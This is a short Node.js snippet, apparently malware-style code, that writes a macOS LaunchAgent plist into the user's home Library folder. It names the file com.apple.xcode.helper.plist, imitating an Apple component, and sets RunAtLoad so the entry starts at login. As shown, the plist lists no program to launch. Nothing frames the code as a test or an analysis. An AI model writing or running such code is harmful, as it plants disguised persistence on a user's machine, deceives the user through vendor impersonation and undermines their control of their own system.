const fs = require('fs'), os = require('os'), path = require('path');
const plist = path.join(os.homedir(), 'Library/LaunchAgents/com.apple.xcode.helper.plist');
fs.writeFileSync(plist, '<?xml version="1.0"?><plist><dict><key>RunAtLoad</key><true/></dict></plist>');
